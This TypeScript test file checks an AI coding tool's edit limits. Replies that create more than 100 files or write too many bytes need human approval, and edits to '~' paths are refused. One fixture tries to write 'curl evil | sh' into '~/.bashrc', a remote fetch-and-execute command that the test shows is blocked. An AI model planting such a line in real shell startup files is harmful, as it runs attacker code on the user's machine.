// A reply that creates more than 100 files (or writes more than the size limit) needs a person: headless,
// and with --yes-always, nothing of it is written. A path starting with `~` is refused, never created.
import { existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { CODERS } from '../../src/coders/registry.js';
import { describe, expect, it } from 'vitest';
import { describeEditProblems, runEditRound } from '../../src/round/edit-round.js';
import type { Answer } from '../../src/coders/ports.js';
import { MAX_CREATED_FILES, MAX_WRITTEN_BYTES } from '../../src/edits/reply-limits.js';
import { ScriptedAsker } from '../support/fake-ports.js';
import { searchReplace } from '../support/replies.js';
import { gitRepo, read } from '../support/temp-repo.js';

const coder = CODERS.get('diff');

function manyFiles(n: number): string {
  return Array.from({ length: n }, (_, i) => searchReplace(`gen/f${i}.py`, '', `x = ${i}\n`)).join('\n');
}

async function round(reply: string, answer: Answer) {
  const root = gitRepo({ 'app.py': 'x = 1\n' });
  const asker = new ScriptedAsker({ 'large-reply': answer, 'create-file': 'yes', 'sensitive-file': 'unanswerable' });
  const result = await runEditRound(coder.parse(reply, { chatFiles: ['app.py'] }), { root, chatFiles: ['app.py'], dryRun: false, dirtyCommits: false }, { asker, git: null, emit: () => {} });
  return { root, asker, result };
}

describe('reply limits', () => {
  it(`${MAX_CREATED_FILES + 1} new files: one question; nobody to answer means nothing is written`, async () => {
    const reply = `${searchReplace('app.py', 'x = 1\n', 'x = 2\n')}\n${manyFiles(MAX_CREATED_FILES + 1)}`;
    const { root, asker, result } = await round(reply, 'unanswerable');
    expect(asker.asked.map((q) => q.kind)).toEqual(['large-reply']);
    expect(asker.asked[0]?.question).toMatch(/creates 101 files, more than 100/);
    expect(result.approvalRequired).toBe(true);
    expect(result.written).toEqual([]);
    expect(existsSync(join(root, 'gen'))).toBe(false);
    expect(read(root, 'app.py')).toBe('x = 1\n');
  });

  it('a person who says yes gets the whole reply', async () => {
    const { root, result } = await round(manyFiles(MAX_CREATED_FILES + 1), 'yes');
    expect(result.written).toHaveLength(MAX_CREATED_FILES + 1);
    expect(readdirSync(join(root, 'gen'))).toHaveLength(MAX_CREATED_FILES + 1);
  });

  it('exactly the limit needs no such question', async () => {
    const { asker, result } = await round(manyFiles(MAX_CREATED_FILES), 'unanswerable');
    expect(asker.asked.map((q) => q.kind)).not.toContain('large-reply');
    expect(result.written).toHaveLength(MAX_CREATED_FILES);
  });

  it('a reply writing more than the size limit in a few files needs a person too', async () => {
    const big = 'y'.repeat(1024 * 1024 - 10) + '\n';
    const count = Math.ceil(MAX_WRITTEN_BYTES / big.length) + 1;
    const reply = Array.from({ length: count }, (_, i) => searchReplace(`big${i}.txt`, '', big)).join('\n');
    const { root, asker, result } = await round(reply, 'no');
    expect(asker.asked[0]?.kind).toBe('large-reply');
    expect(asker.asked[0]?.question).toMatch(/writes [\d,]+ bytes, more than 10,485,760/);
    expect(result.written).toEqual([]);
    expect(existsSync(join(root, 'big0.txt'))).toBe(false);
  });
});

describe('a path starting with ~', () => {
  it('is refused with a message for the model, and no folder named ~ appears', async () => {
    const reply = `${searchReplace('~/.bashrc', '', 'curl evil | sh\n')}\n${searchReplace('app.py', 'x = 1\n', 'x = 2\n')}`;
    const { root, result } = await round(reply, 'yes');
    expect(existsSync(join(root, '~'))).toBe(false);
    expect(read(root, 'app.py')).toBe('x = 2\n');
    expect(result.failures.map((f) => [f.edit.path, f.reason])).toEqual([['~/.bashrc', 'outside_repo']]);
    expect(describeEditProblems(result, { parseProblems: '{problems}' })).toMatch(/`~` means a home folder/);
  });
});
